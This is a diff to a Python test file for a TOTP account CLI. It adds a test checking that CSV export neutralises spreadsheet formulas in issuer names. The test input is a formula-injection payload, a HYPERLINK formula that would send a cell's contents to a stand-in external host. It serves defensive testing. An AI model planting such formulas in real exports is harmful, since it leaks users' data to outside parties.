@@ -1,5 +1,6 @@
 """`manage.py otp account ...`: adding, importing, listing and removing TOTP accounts."""
 
+import csv
 import io
 import json
 import os
@@ -316,6 +317,14 @@ def test_list_as_json_is_one_object_per_line(frozen_clock):
         {"name": "ci", "issuer": "ACME", "algorithm": "SHA1", "digits": 6, "period": 30},
     ]
     assert_no_secret(out)
+
+
+def test_list_as_csv_never_hands_a_spreadsheet_a_formula(frozen_clock):
+    # An issuer comes from whatever QR code the site showed.
+    add("ci", SECRET, "--issuer", '=HYPERLINK("http://e.example/?"&A2,"x")')
+    out, _ = run("account", "list", "--format", "csv")
+    row = next(csv.reader(io.StringIO(out.splitlines()[2])))
+    assert row[:2] == ["ci", '\'=HYPERLINK("http://e.example/?"&A2,"x")']
 
 
 def test_remove_deletes_the_account_and_records_it(frozen_clock):
